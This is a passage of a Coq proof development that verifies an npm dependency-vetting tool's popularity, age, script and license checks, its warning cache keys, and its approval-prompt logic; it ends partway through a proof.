Lemma lookupDownloads_miss packageName st w :
  falsyCount env (packageDownloadCache st) packageName →
  lookup' packageName st w =
    match checkPackageDownloads env drev packageName w with
    | (Ok downloads, w') => (Ok (Count downloads), w')
    | (Throw err, w') => (Throw err, w')
    | (Exit code, w') => (Exit code, w')
    end.
Proof. intros [Hc|Hc]; unfold lookupDownloads; by rewrite Hc, ?mbind_run. Qed.

(** The lookup requests the downloads exactly when the property reads as
    falsy, and touches nothing but the request log. *)
Lemma lookupDownloads_world packageName st w :
  (lookup' packageName st w).2
  = if bool_decide (falsyCount env (packageDownloadCache st) packageName)
    then logRequest (downloadsUrl packageName) w else w.
Proof.
  case_bool_decide as Hfalsy.
  - rewrite lookupDownloads_miss by done.
    rewrite <- (checkPackageDownloads_world drev packageName w).
    by destruct (checkPackageDownloads env drev packageName w) as [[?| |] ?].
  - unfold falsyCount in Hfalsy. unfold lookupDownloads.
    destruct (getProperty env (packageDownloadCache st) packageName) as [[cached|v]|];
      [|done|by destruct Hfalsy; left].
    destruct (Z.eqb_spec cached 0) as [->|_]; [|done].
    destruct Hfalsy. by right.
Qed.

Lemma downloadCheck_enabled dep st w threshold :
  enableDownloadCheck config = Some threshold →
  d_name dep ∉ checkedPackageDownloads st →
  downloadCheck' dep st w =
    match lookup' (d_name dep) st w with
    | (Ok downloads, w') => (recordDownloads irev threshold (d_name dep) downloads st, w')
    | (Throw err, w') => (Throw err, w')
    | (Exit code, w') => (Exit code, w')
    end.
Proof.
  intros Hen Hnew. unfold downloadCheck. rewrite Hen.
  rewrite bool_decide_eq_false_2 by done. by rewrite mbind_run.
Qed.

(** The expression [packageDownloadCache[dep.name] || (await
    checkPackageDownloads(dep.name))], for a name not yet checked: a
    property that reads as [undefined] or [0] is a miss and costs one
    request, any other value is used as it is. *)
Lemma downloadCheck_on_cache dep st w threshold :
  enableDownloadCheck config = Some threshold →
  d_name dep ∉ checkedPackageDownloads st →
  (falsyCount env (packageDownloadCache st) (d_name dep) →
   (downloadCheck' dep st w).2 = logRequest (downloadsUrl (d_name dep)) w
   ∧ fetched (downloadCheck' dep st w).2 = fetched w ++ [downloadsUrl (d_name dep)])
  ∧ (∀ downloads,
       getProperty env (packageDownloadCache st) (d_name dep) = Some downloads →
       downloads ≠ Count 0%Z →
       downloadCheck' dep st w
       = (recordDownloads irev threshold (d_name dep) downloads st, w))
  ∧ (∀ w0 persisted,
       packageDownloadsJson w0 = Some (DownloadsJson persisted) →
       getPackageDownloadCache w0 = (Ok {| kind := PlainObject; own := persisted |}, w0)).
Proof.
  intros Hen Hnew. split; [|split].
  - intros Hfalsy.
    assert (Hw : (downloadCheck' dep st w).2 = logRequest (downloadsUrl (d_name dep)) w).
    { rewrite (downloadCheck_enabled _ _ _ _ Hen Hnew).
      pose proof (lookupDownloads_world (d_name dep) st w) as Hlook.
      rewrite bool_decide_eq_true_2 in Hlook by done.
      by destruct (lookup' (d_name dep) st w) as [[?| |] ?]. }
    split; [done|]. by rewrite Hw.
  - intros downloads Hc Hnz.
    rewrite (downloadCheck_enabled _ _ _ _ Hen Hnew).
    by rewrite (lookupDownloads_truthy _ _ _ _ Hc Hnz).
  - intros w0 persisted Hp. unfold getPackageDownloadCache. by rewrite Hp.
Qed.

(** The checks other than the popularity check never produce a
    [minWeeklyDownloads] warning. *)
Lemma ageProblem_type minAge label version time :
  Forall (λ problem, w_type problem = minPackageAge)
    (ageProblem getTime env minAge label version time).
Proof.
  unfold ageProblem. repeat case_match; repeat constructor.
Qed.

Lemma scriptProblems_type label scripts :
  Forall (λ problem, w_type problem = script) (scriptProblems label scripts).
Proof.
  unfold scriptProblems. induction scripts as [|[key value] scripts IH]; simpl.
  - constructor.
  - destruct (scriptList_includes key); [by constructor|done].
Qed.

Lemma licenseProblems_type label found :
  Forall (λ problem, w_type problem = license) (licenseProblems config label found).
Proof.
  unfold licenseProblems. repeat case_match; repeat constructor.
Qed.

Local Abbreviation keyed := (thresholdKeyed irev config).

Lemma keyed_other_type problem :
  w_type problem ≠ minWeeklyDownloads → keyed problem.
Proof. by intros Hne Heq. Qed.

Lemma packageProblems_keyed packageName packageVersion json :
  Forall keyed (packageProblems getTime env config packageName packageVersion json).
Proof.
  unfold packageProblems.
  assert (Hage : ∀ minAge label version time,
             Forall keyed (ageProblem getTime env minAge label version time)).
  { intros. eapply Forall_impl; [apply ageProblem_type|].
    intros problem Ht. apply keyed_other_type. by rewrite Ht. }
  assert (Hfirst : Forall keyed
    match c_minPackageAge config with
    | Some minAge =>
        if (minAge =? 0)%Z then []
        else ageProblem getTime env minAge (packageName +:+ "@" +:+ packageVersion)
               packageVersion (rc_time json !! packageVersion)
    | None => []
    end).
  { repeat case_match; try constructor. apply Hage. }
  destruct (rc_versions json !! packageVersion) as [meta|]; [|done].
  rewrite !Forall_app. split; [done|]. split.
  - eapply Forall_impl; [apply scriptProblems_type|].
    intros problem Ht. apply keyed_other_type. by rewrite Ht.
  - eapply Forall_impl; [apply licenseProblems_type|].
    intros problem Ht. apply keyed_other_type. by rewrite Ht.
Qed.

Lemma checkPackage_keyed packageName packageVersion w p w' :
  checkPackage getTime env config packageName packageVersion w = (Ok p, w') →
  Forall keyed p.
Proof.
  unfold checkPackage. rewrite try_catch_run, mbind_run.
  destruct (cacheRegistry env packageName packageVersion w) as [[json| |] w1].
  - rewrite mret_run. intros [= <- <-]. apply packageProblems_keyed.
  - rewrite mret_run. intros [= <- <-]. constructor.
  - done.
Qed.

Lemma processLocalPackageJson_keyed dep w p w' :
  processLocalPackageJson env config dep w = (Ok p, w') → Forall keyed p.
Proof.
  unfold processLocalPackageJson.
  destruct (nodeModules env !! d_path dep) as [[|[scripts|] found]|];
    try (rewrite mret_run; intros [= <- <-]; constructor); [done|].
  rewrite mret_run. intros [= <- <-]. rewrite Forall_app. split.
  - eapply Forall_impl; [apply scriptProblems_type|].
    intros problem Ht. apply keyed_other_type. by rewrite Ht.
  - eapply Forall_impl; [apply licenseProblems_type|].
    intros problem Ht. apply keyed_other_type. by rewrite Ht.
Qed.

Lemma checkPackageAge_keyed minAge packageName version w found w' :
  checkPackageAge getTime env minAge packageName version w = (Ok (Some found), w') →
  keyed found.
Proof.
  unfold checkPackageAge. rewrite try_catch_run, mbind_run.
  destruct (cacheRegistryKeys env packageName version w) as [[json| |] w1]; [| |done].
  - rewrite mret_run. intros [= Hhead <-].
    pose proof (ageProblem_type minAge packageName version (rk_time json !! version)) as Hty.
    destruct (ageProblem getTime env minAge packageName version (rk_time json !! version))
      as [|first rest]; [done|].
    injection Hhead as <-. apply Forall_cons in Hty as [Ht _].
    apply keyed_other_type. by rewrite Ht.
  - by rewrite mret_run.
Qed.

(** What the popularity block does to the warnings. *)
Lemma downloadCheck_warnings dep st w st' w' :
  downloadCheck' dep st w = (Ok st', w') →
  warnings st' = warnings st
  ∨ ∃ threshold downloads,
      enableDownloadCheck config = Some threshold
      ∧ (d_name dep ∉ checkedPackageDownloads st)
      ∧ lookup' (d_name dep) st w = (Ok downloads, w')
      ∧ downloads ≠ Count (-1)%Z
      ∧ lessThan downloads threshold = true
      ∧ (∀ n, downloads = Count n → (n < threshold)%Z)
      ∧ warnings st' =
          warnings st ++ [lowDownloadsWarning irev threshold (d_name dep) downloads].
Proof.
  destruct (enableDownloadCheck config) as [threshold|] eqn:Hen.
  2: { unfold downloadCheck. rewrite Hen, mret_run. intros [= <- <-]. by left. }
  destruct (decide (d_name dep ∈ checkedPackageDownloads st)) as [Hin|Hnew].
  { unfold downloadCheck. rewrite Hen, bool_decide_eq_true_2, mret_run by done.
    intros [= <- <-]. by left. }
  rewrite (downloadCheck_enabled _ _ _ _ Hen Hnew).
  destruct (lookup' (d_name dep) st w) as [[downloads| |] w1] eqn:Hlook; [|done..].
  unfold recordDownloads.
  destruct (if notSentinel downloads then _ else _) as [cache|]; [|done].
  intros [= <- <-]. cbn [warnings].
  destruct (notSentinel downloads) eqn:Hs; [|by left].
  destruct (lessThan downloads threshold) eqn:Hlt; [|by left].
  right. exists threshold, downloads. repeat (split; [done|]). split; [|split; [done|]].
  - intros ->. simpl in Hs. done.
  - split; [|done]. intros n ->. by apply Z.ltb_lt in Hlt.
Qed.

Lemma enableDownloadCheck_Some threshold :
  enableDownloadCheck config = Some threshold →
  c_minWeeklyDownloads config = Some threshold ∧ (0 < threshold)%Z.
Proof.
  unfold enableDownloadCheck.
  destruct (c_minWeeklyDownloads config) as [n|]; [|done].
  destruct (0 <? n)%Z eqn:Hpos; [|done].
  intros [= ->]. by apply Z.ltb_lt in Hpos.
Qed.

Lemma downloadCheck_keyed dep st w st' w' :
  Forall keyed (warnings st) →
  downloadCheck' dep st w = (Ok st', w') →
  Forall keyed (warnings st').
Proof.
  intros Hst
    [->|(threshold & downloads & Hen & _ & _ & _ & _ & _ & ->)]%downloadCheck_warnings;
    [done|].
  rewrite Forall_app. split; [done|]. constructor; [|constructor].
  intros _. exists threshold.
  destruct (enableDownloadCheck_Some _ Hen) as [? ?]. done.
Qed.

Lemma checkDependency_keyed dep st w st' w' :
  Forall keyed (warnings st) →
  checkDependency getTime env irev drev config dep st w = (Ok st', w') →
  Forall keyed (warnings st').
Proof.
  intros Hst.
  cut (∀ r, r = irev →
         checkDependency getTime env r drev config dep st w = (Ok st', w') →
         Forall keyed (warnings st')); [by eauto|].
  intros r Hr. unfold checkDependency. destruct r; cbv iota; rewrite Hr.
  - rewrite mbind_run.
    destruct (checkPackage getTime env config (d_name dep) (d_version dep) w)
      as [[p| |] w1] eqn:Hp; [|done..].
    apply downloadCheck_keyed. cbn [pushWarnings warnings].
    rewrite Forall_app. split; [done|]. by eapply checkPackage_keyed.
  - rewrite mbind_run.
    destruct (processLocalPackageJson env config dep w) as [[p| |] w1] eqn:Hp; [|done..].
    rewrite mbind_run.
    assert (Hst1 : Forall keyed (warnings (pushWarnings p st))).
    { cbn [pushWarnings warnings]. rewrite Forall_app. split; [done|].
      by eapply processLocalPackageJson_keyed. }
    destruct (c_minPackageAge config) as [minAge|].
    2: { rewrite mret_run. by apply downloadCheck_keyed. }
    destruct (0 <? minAge)%Z.
    2: { rewrite mret_run. by apply downloadCheck_keyed. }
    rewrite mbind_run.
    destruct (checkPackageAge getTime env minAge (d_name dep) (d_version dep) w1)
      as [[[found|]| |] w2] eqn:Hage; [| |done..].
    + rewrite mret_run. apply downloadCheck_keyed. cbn [pushWarnings warnings].
      rewrite Forall_app. split; [done|]. constructor; [|constructor].
      by eapply checkPackageAge_keyed.
    + rewrite mret_run. by apply downloadCheck_keyed.
Qed.

Lemma checkAll_keyed deps st w st' w' :
  Forall keyed (warnings st) →
  checkAll getTime env irev drev config deps st w = (Ok st', w') →
  Forall keyed (warnings st').
Proof.
  unfold checkAll.
  apply (forM_invariant (λ st, Forall keyed (warnings st))).
  intros i st0 w0 st1 w1.
  apply (forM_invariant (λ st, Forall keyed (warnings st))).
  intros dep. apply checkDependency_keyed.
Qed.

(** C5, as the code has it.  The popularity block pushes a warning only for
    a value [downloads] other than the sentinel [-1] with
    [downloads < threshold] (for a count, one below the threshold), and the
    warning is [lowDownloadsWarning]; every [minWeeklyDownloads]
    warning a run collects has a [cacheKey] made of the configured threshold
    alone: its decimal digits in [src/lib/index.ts], and
    ["minWeeklyDownloads="] followed by them in [part_002]. *)
Theorem low_downloads_warning_key :
  (∀ dep st w st' w',
     downloadCheck' dep st w = (Ok st', w') →
     warnings st' = warnings st
     ∨ ∃ threshold downloads,
         enableDownloadCheck config = Some threshold
         ∧ (d_name dep ∉ checkedPackageDownloads st)
         ∧ lookup' (d_name dep) st w = (Ok downloads, w')
         ∧ downloads ≠ Count (-1)%Z
         ∧ lessThan downloads threshold = true
         ∧ (∀ n, downloads = Count n → (n < threshold)%Z)
         ∧ warnings st' =
             warnings st ++ [lowDownloadsWarning irev threshold (d_name dep) downloads])
  ∧ (∀ deps cache w st' w' problem,
       checkAll getTime env irev drev config deps
         {| warnings := []; packageDownloadCache := cache; checkedPackageDownloads := ∅ |} w
       = (Ok st', w') →
       problem ∈ warnings st' →
       w_type problem = minWeeklyDownloads →
       ∃ threshold,
         c_minWeeklyDownloads config = Some threshold
         ∧ (0 < threshold)%Z
         ∧ w_cacheKey problem =
             match irev with
             | lib_index_ts => pretty threshold
             | unnamed_part_002 => "minWeeklyDownloads=" +:+ pretty threshold
             end).
Proof.
  split; [apply downloadCheck_warnings|].
  intros deps cache w st' w' problem Hrun Hin Hty.
  assert (Hall : Forall keyed (warnings st')).
  { eapply checkAll_keyed; [|exact Hrun]. constructor. }
  rewrite Forall_forall in Hall. by apply Hall.
Qed.
End check.
End popularity.

(** ** The decision *)

Lemma quiet_ret {A : Type} (a : A) : quiet (mret a).
Proof. intros w r w'. rewrite mret_run. by intros [= <- <-]. Qed.

Lemma quiet_throw {A : Type} (err : string) : quiet (throw (A := A) err).
Proof. intros w r w'. unfold throw. by intros [= <- <-]. Qed.

Lemma quiet_liftResult {A : Type} (r : Result A) : quiet (liftResult r).
Proof. intros w r' w'. unfold liftResult. by intros [= <- <-]. Qed.

Lemma quiet_bind {A B : Type} (m : M A) (k : A → M B) :
  quiet m → (∀ a, quiet (k a)) → quiet (m ≫= k).
Proof.
  intros Hm Hk w r w'. rewrite mbind_run.
  destruct (m w) as [[a|err|code] w1] eqn:Hrun.
  - intros Hrest. destruct (Hm _ _ _ Hrun) as [H1 H2].
    destruct (Hk a _ _ _ Hrest) as [H3 H4]. split; congruence.
  - intros [= <- <-]. by eapply Hm.
  - intros [= <- <-]. by eapply Hm.
Qed.

Lemma quiet_try_catch {A : Type} (m : M A) (handler : string → M A) :
  quiet m → (∀ err, quiet (handler err)) → quiet (try_catch m handler).
Proof.
  intros Hm Hh w r w'. rewrite try_catch_run.
  destruct (m w) as [[a|err|code] w1] eqn:Hrun.
  - intros [= <- <-]. by eapply Hm.
  - intros Hrest. destruct (Hm _ _ _ Hrun) as [H1 H2].
    destruct (Hh err _ _ _ Hrest) as [H3 H4]. split; congruence.
  - intros [= <- <-]. by eapply Hm.
Qed.

Lemma quiet_forM {A S : Type} (body : A → S → M S) (xs : list A) :
  (∀ x st, quiet (body x st)) → ∀ st, quiet (forM body xs st).
Proof.
  intros Hbody. induction xs as [|x xs IH]; intros st; simpl.
  - apply quiet_ret.
  - apply quiet_bind; [apply Hbody|]. intros st'. apply IH.
Qed.

Create HintDb quiet.
#[local] Hint Resolve quiet_ret quiet_throw quiet_liftResult : quiet.

Ltac quiet_step :=
  first
    [ solve [auto with quiet]
    | apply quiet_bind; [|intros ?] | apply quiet_try_catch; [|intros ?]
    | apply quiet_forM; intros ? ?
    | case_match ].

Section decision.
Variable satisfies : string → string → bool.
Variable basename : string → string.
Variable getTime : string → option Z.
Variable env : Env.
Variable irev : IndexRevision.
Variable drev : DownloadsRevision.
Variable config : Config.

Lemma quiet_fetchJson url : quiet (fetchJson env url).
Proof. intros w r w'. unfold fetchJson. repeat case_match; by intros [= <- <-]. Qed.

Lemma quiet_fetchBody url : quiet (fetchBody env url).
Proof. intros w r w'. unfold fetchBody. repeat case_match; by intros [= <- <-]. Qed.

Lemma quiet_writeRegistryCacheFile packageName f :
  quiet (writeRegistryCacheFile env packageName f).
Proof.
  intros w r w'. unfold writeRegistryCacheFile. case_match; by intros [= <- <-].
Qed.

Lemma quiet_savePackageDownloadCache cache : quiet (savePackageDownloadCache env cache).
Proof.
  intros w r w'. unfold savePackageDownloadCache. case_match; by intros [= <- <-].
Qed.

Lemma quiet_getPackageDownloadCache : quiet getPackageDownloadCache.
Proof.
  intros w r w'. unfold getPackageDownloadCache. repeat case_match; by intros [= <- <-].
Qed.

Lemma quiet_readWarningsFromLockfile : quiet readWarningsFromLockfile.
Proof.
  intros w r w'. unfold readWarningsFromLockfile. repeat case_match; by intros [= <- <-].
Qed.

Lemma quiet_cacheRegistry packageName version :
  quiet (cacheRegistry env packageName version).
Proof.
  intros w r w'. unfold cacheRegistry.
  destruct (cachedRecord env packageName version w); [by intros [= <- <-]|].
  revert w r w'. fold (quiet (A := RegistryCacheRecord)).
  apply quiet_bind; [apply quiet_fetchJson|]. intros json.
  repeat quiet_step. apply quiet_writeRegistryCacheFile.
Qed.

Lemma quiet_cacheRegistryKeys packageName version :
  quiet (cacheRegistryKeys env packageName version).
Proof.
  intros w r w'. unfold cacheRegistryKeys.
  destruct (cachedKeys env packageName version w); [by intros [= <- <-]|].
  revert w r w'. fold (quiet (A := RegistryCacheKeys)).
  apply quiet_bind; [apply quiet_fetchJson|]. intros json.
  repeat quiet_step. apply quiet_writeRegistryCacheFile.
Qed.

Lemma quiet_checkPackageDownloads packageName :
  quiet (checkPackageDownloads env drev packageName).
Proof.
  unfold checkPackageDownloads. destruct drev.
  - apply quiet_bind; [apply quiet_fetchBody|]. intros json. repeat quiet_step.
  - apply quiet_try_catch; [|intros; apply quiet_ret].
    apply quiet_bind; [apply quiet_fetchJson|]. intros json. repeat quiet_step.
Qed.

Lemma quiet_downloadCheck rev dep st : quiet (downloadCheck env rev drev config dep st).
Proof.
  unfold downloadCheck, lookupDownloads.
  repeat (quiet_step || apply quiet_checkPackageDownloads).
Qed.

Lemma quiet_checkDependency dep st :
  quiet (checkDependency getTime env irev drev config dep st).
Proof.
  unfold checkDependency, checkPackage, checkPackageAge, processLocalPackageJson.
  repeat (quiet_step || apply quiet_downloadCheck || apply quiet_cacheRegistry
          || apply quiet_cacheRegistryKeys).
Qed.

Lemma quiet_collectWarnings dir :
  quiet (collectWarnings satisfies basename getTime env irev drev config dir).
Proof.
  unfold collectWarnings, checkAll.
  repeat (quiet_step || apply quiet_readWarningsFromLockfile
          || apply quiet_getPackageDownloadCache || apply quiet_checkDependency).
Qed.

Lemma quiet_saveCounts st : quiet (saveCounts env config st).
Proof. unfold saveCounts. repeat (quiet_step || apply quiet_savePackageDownloadCache). Qed.

Lemma quiet_collectAndReconcile dir :
  quiet (collectAndReconcile satisfies basename getTime env irev drev config dir).
Proof.
  unfold collectAndReconcile.
  apply quiet_bind; [apply quiet_collectWarnings|]. intros collected. cbv zeta.
  apply quiet_bind; [apply quiet_saveCounts|]. intros _. apply quiet_ret.
Qed.

(** C7, as the code has it.  Once the warnings are collected ([st], in the
    world [w1]) they are filtered and the popularity cache is saved where
    it is to be saved; if that fails the run ends with the error, nothing
    asked and nothing written.  Otherwise, in the world [w2] after the
    save, the approval record and the prompt are as they were before the
    run, and: with nothing left to approve the run returns at once; in CI
    mode with something left it exits with code 1 at once; otherwise it
    prompts once and, on the answer [y] or on the empty answer, for which
    [read] gives the default [y], writes the rebuilt record and returns, or
    ends with the error of the write; on any other answer it exits with
    code 1, and when the prompt fails it ends with that error, the stored
    record unchanged in both cases. *)
Theorem decision_after_filtering dir w cacheData st w1 :
  collectWarnings satisfies basename getTime env irev drev config dir w
    = (Ok (cacheData, st), w1) →
  let run := processRepo satisfies basename getTime env irev drev config dir w in
  let reconciled := reconcile cacheData (warnings st) in
  let unapproved := length (r_warnings reconciled) in
  let saving := opt_cache env && bool_decide (is_Some (enableDownloadCheck config)) in
  let w2 :=
    if saving then setPackageDownloadsJson (own (packageDownloadCache st)) w1 else w1 in
  packagePolicyLock w2 = packagePolicyLock w
  ∧ prompts w2 = prompts w
  ∧ packagePolicyLock (countPrompt w2) = packagePolicyLock w
  ∧ (saving = true → cacheDirWritable env = false → ∃ err, run = (Throw err, w1))
  ∧ (saving = false ∨ cacheDirWritable env = true →
     (unapproved = 0 → run = (Ok tt, w2))
     ∧ (unapproved ≠ 0 → opt_ci env = true → run = (Exit 1%Z, w2))
     ∧ (unapproved ≠ 0 → opt_ci env = false →
        match answer env (prompts w2) with
        | Some line =>
            if bool_decide (line = "y" ∨ line = "") then
              if policyLockWritable env then
                run = (Ok tt,
                       setPackagePolicyLock
                         {| pl_version := 1; pl_packages := r_cacheData reconciled |}
                         (countPrompt w2))
              else ∃ err, run = (Throw err, countPrompt w2)
            else run = (Exit 1%Z, countPrompt w2)
        | None => ∃ err, run = (Throw err, countPrompt w2)
        end)).
Proof.
  intros Hcollect run reconciled unapproved saving w2.
  destruct (quiet_collectWarnings dir _ _ _ Hcollect) as [Hlock Hprompts].
  assert (Hw2 : packagePolicyLock w2 = packagePolicyLock w ∧ prompts w2 = prompts w).
  { unfold w2. by destruct saving. }
  destruct Hw2 as [Hlock2 Hprompts2].
  split; [done|]. split; [done|]. split; [done|].
  assert (Hrun : run =
            match saveCounts env config st w1 with
            | (Ok _, w') => approveOrFail env (r_cacheData reconciled) unapproved w'
            | (Throw err, w') => (Throw err, w')
            | (Exit code, w') => (Exit code, w')
            end).
  { unfold run, processRepo, collectAndReconcile.
    rewrite !mbind_run, Hcollect. cbn [fst snd]. rewrite mbind_run.
    by destruct (saveCounts env config st w1) as [[[]| |] w']. }
  rewrite Hrun. unfold saveCounts. fold saving. split.
  - intros -> Hro. unfold savePackageDownloadCache. rewrite Hro. by eexists.
  - intros Hsave.
    assert (Hsaved :
      (if saving then savePackageDownloadCache env (own (packageDownloadCache st))
       else mret tt) w1 = (Ok tt, w2)).
    { unfold w2. destruct saving; [|done]. unfold savePackageDownloadCache.
      by destruct Hsave as [?| ->]. }
    rewrite Hsaved. unfold approveOrFail. split; [|split].
    + by intros ->.
    + intros Hn Hci. destruct unapproved; [done|]. simpl. by rewrite Hci.
    + intros Hn Hci. destruct unapproved; [done|]. simpl. rewrite Hci.
      rewrite mbind_run. unfold read.
      destruct (answer env (prompts w2)) as [line|]; [|by eexists].
      case_bool_decide as Hline.
      * assert (Hy : (if truthy line then line else "y") = "y").
        { destruct Hline as [-> | ->]; done. }
        rewrite Hy. simpl. unfold writePolicyLock.
        destruct (policyLockWritable env); [done|by eexists].
      * assert (Hno : (if truthy line then line else "y") ≠ "y").
        { unfold truthy. destruct (String.eqb_spec line "") as [->|Hne]; simpl.
          - destruct Hline. by right.
          - intros ->. destruct Hline. by left. }
        by rewrite (proj2 (String.eqb_neq _ _) Hno).
Qed.
End decision.

(** ** The popularity check when the request fails *)

(** X1.  In [part_003] a failed request gives the sentinel [-1]; the block of
    [processRepo], which asks when the cache reads as [undefined] or [0] at
    the name, then pushes no warning and leaves the popularity cache as it
    was, so what is saved later has no new entry for the package. *)
Theorem failed_popularity_fetch_is_unknown
    (env : Env) (irev : IndexRevision) (config : Config) (dep : Dependency)
    (st : Collected) (w : World) (threshold : Z) :
  popularityFetchFails env w (d_name dep) →
  enableDownloadCheck config = Some threshold →
  d_name dep ∉ checkedPackageDownloads st →
  getProperty env (packageDownloadCache st) (d_name dep) = None
  ∨ getProperty env (packageDownloadCache st) (d_name dep) = Some (Count 0%Z) →
  checkPackageDownloads env unnamed_part_003 (d_name dep) w
  = (Ok (-1)%Z, logRequest (downloadsUrl (d_name dep)) w)
  ∧ ∃ st',
      downloadCheck env irev unnamed_part_003 config dep st w
      = (Ok st', logRequest (downloadsUrl (d_name dep)) w)
      ∧ warnings st' = warnings st
      ∧ packageDownloadCache st' = packageDownloadCache st.
Proof.
  intros Hfails Hen Hnew Hfalsy.
  destruct (checkPackageDownloads_part_003 env (d_name dep) w) as [Hsentinel _].
  specialize (Hsentinel Hfails). split; [done|].
  rewrite (downloadCheck_enabled env irev unnamed_part_003 config _ _ _ _ Hen Hnew).
  rewrite (lookupDownloads_miss env unnamed_part_003) by done. rewrite Hsentinel.
  eexists. split; [done|]. by split.
Qed.

(** C6, at the failing input.  With the network down,
    [checkPackageDownloads] of [src/lib/package-downloads.ts] throws, and a
    run that needs the count ends with that exception in either revision of
    [processRepo]; the [checkPackageDownloads] of [part_003] returns [-1]. *)
Theorem popularity_failure_is_thrown_in_lib :
  checkPackageDownloads offlineEnv lib_package_downloads_ts "left-pad" emptyWorld
  = (Throw "Failed to fetch https://api.npmjs.org/downloads/point/last-week/left-pad",
     logRequest (downloadsUrl "left-pad") emptyWorld)
  ∧ (processRepo satisfies_example basename_posix getTime_example offlineEnv
       lib_index_ts lib_package_downloads_ts thresholdConfig leftPadDir emptyWorld).1
    = Throw "Failed to fetch https://api.npmjs.org/downloads/point/last-week/left-pad"
  ∧ (processRepo satisfies_example basename_posix getTime_example offlineEnv
       unnamed_part_002 lib_package_downloads_ts thresholdConfig leftPadDir emptyWorld).1
    = Throw "Failed to fetch https://api.npmjs.org/downloads/point/last-week/left-pad"
  ∧ checkPackageDownloads offlineEnv unnamed_part_003 "left-pad" emptyWorld
    = (Ok (-1)%Z, logRequest (downloadsUrl "left-pad") emptyWorld).
Proof. repeat split; by vm_compute. Qed.

(** ** The whole loop *)

Lemma forM_app {A S : Type} (body : A → S → M S) (xs ys : list A) (st : S) (w : World) :
  forM body (xs ++ ys) st w = (forM body xs st ≫= forM body ys) w.
Proof.
  revert st w. induction xs as [|x xs IH]; intros st w.
  - by rewrite mbind_run.
  - simpl. rewrite !mbind_run.
    destruct (body x st w) as [[st1| |] w1]; [|done..].
    by rewrite IH, mbind_run.
Qed.

Lemma forM_concat {A B S : Type} (body : B → S → M S) (f : A → list B)
    (xs : list A) (st : S) (w : World) :
  forM (λ x st, forM body (f x) st) xs st w = forM body (concat (map f xs)) st w.
Proof.
  revert st w. induction xs as [|x xs IH]; intros st w; [done|].
  simpl. rewrite forM_app, !mbind_run.
  destruct (forM body (f x) st w) as [[st1| |] w1]; [apply IH|done..].
Qed.

(** The batches are the dependencies, in order. *)
Lemma batches_cover (deps : list Dependency) (fuel i : nat) :
  length deps - i ≤ fuel →
  concat (map (λ i, slice i deps) (batchStartsFrom fuel i (length deps))) = drop i deps.
Proof.
  revert i. induction fuel as [|fuel IH]; intros i Hfuel; simpl.
  - rewrite drop_ge; [done|lia].
  - destruct (i <? length deps) eqn:Hi.
    + apply Nat.ltb_lt in Hi. simpl. rewrite IH by (unfold batchSize; lia).
      unfold slice. rewrite <- drop_drop. apply take_drop.
    + apply Nat.ltb_ge in Hi. by rewrite drop_ge.
Qed.

Lemma forM_prefix_invariant {A S : Type} (P : list A → S → World → Prop)
    (body : A → S → M S) :
  (∀ done x st w st' w', P done st w → body x st w = (Ok st', w') → P (done ++ [x]) st' w') →
  ∀ xs done st w st' w',
    P done st w → forM body xs st w = (Ok st', w') → P (done ++ xs) st' w'.
Proof.
  intros Hbody. induction xs as [|x xs IH]; intros done st w st' w' HP; simpl.
  - rewrite mret_run, app_nil_r. by intros [= <- <-].
  - rewrite mbind_run. destruct (body x st w) as [[st1| |] w1] eqn:Hx; [|done..].
    intros Hrest. rewrite (cons_middle x done xs), app_assoc.
    eapply IH; [|exact Hrest]. by eapply Hbody.
Qed.

Lemma asksOnly_ret {A : Type} (P : string → Prop) (a : A) : asksOnly P (mret a).
Proof.
  intros w r w'. rewrite mret_run. intros [= <- <-].
  exists []. by rewrite app_nil_r.
Qed.

Lemma asksOnly_throw {A : Type} (P : string → Prop) (err : string) :
  asksOnly P (throw (A := A) err).
Proof.
  intros w r w'. unfold throw. intros [= <- <-]. exists []. by rewrite app_nil_r.
Qed.

Lemma asksOnly_bind {A B : Type} (P : string → Prop) (m : M A) (k : A → M B) :
  asksOnly P m → (∀ a, asksOnly P (k a)) → asksOnly P (m ≫= k).
Proof.
  intros Hm Hk w r w'. rewrite mbind_run.
  destruct (m w) as [[a|err|code] w1] eqn:Hrun.
  - intros Hrest. destruct (Hm _ _ _ Hrun) as (more1 & Hw1 & HP1).
    destruct (Hk a _ _ _ Hrest) as (more2 & Hw2 & HP2).
    exists (more1 ++ more2). rewrite Hw2, Hw1, app_assoc. split; [done|].
    by apply Forall_app.
  - intros [= <- <-]. by eapply Hm.
  - intros [= <- <-]. by eapply Hm.
Qed.

Lemma asksOnly_try_catch {A : Type} (P : string → Prop) (m : M A)
    (handler : string → M A) :
  asksOnly P m → (∀ err, asksOnly P (handler err)) → asksOnly P (try_catch m handler).
Proof.
  intros Hm Hh w r w'. rewrite try_catch_run.
  destruct (m w) as [[a|err|code] w1] eqn:Hrun.
  - intros [= <- <-]. by eapply Hm.
  - intros Hrest. destruct (Hm _ _ _ Hrun) as (more1 & Hw1 & HP1).
    destruct (Hh err _ _ _ Hrest) as (more2 & Hw2 & HP2).
    exists (more1 ++ more2). rewrite Hw2, Hw1, app_assoc. split; [done|].
    by apply Forall_app.
  - intros [= <- <-]. by eapply Hm.
Qed.

#[local] Hint Resolve asksOnly_ret asksOnly_throw : quiet.

Ltac asks_step :=
  first
    [ solve [auto with quiet]
    | apply asksOnly_bind; [|intros ?] | apply asksOnly_try_catch; [|intros ?]
    | case_match ].

Lemma registryUrl_not_downloadsUrl (n n' : string) : registryUrl n ≠ downloadsUrl n'.
Proof. unfold registryUrl, downloadsUrl. rewrite !append_String. by intros [=]. Qed.

Lemma downloadsUrl_inj (n n' : string) : downloadsUrl n = downloadsUrl n' → n = n'.
Proof. unfold downloadsUrl. apply (inj (String.app _)). Qed.

Section loop.
Variable satisfies : string → string → bool.
Variable basename : string → string.
Variable getTime : string → option Z.
Variable env : Env.
Variable drev : DownloadsRevision.
Variable config : Config.

Lemma asksOnly_fetchJson (P : string → Prop) url : P url → asksOnly P (fetchJson env url).
Proof.
  intros HP w r w'. unfold fetchJson.
  repeat case_match; intros [= <- <-]; exists [url]; by repeat constructor.
Qed.

Lemma asksOnly_writeRegistryCacheFile (P : string → Prop) packageName f :
  asksOnly P (writeRegistryCacheFile env packageName f).
Proof.
  intros w r w'. unfold writeRegistryCacheFile.
  case_match; intros [= <- <-]; exists []; by rewrite app_nil_r.
Qed.

Lemma asksOnly_cacheRegistry packageName version :
  asksOnly isRegistryUrl (cacheRegistry env packageName version).
Proof.
  intros w r w'. unfold cacheRegistry.
  destruct (cachedRecord env packageName version w).
  { intros [= <- <-]. exists []. by rewrite app_nil_r. }
  revert w r w'. fold (asksOnly (A := RegistryCacheRecord) isRegistryUrl).
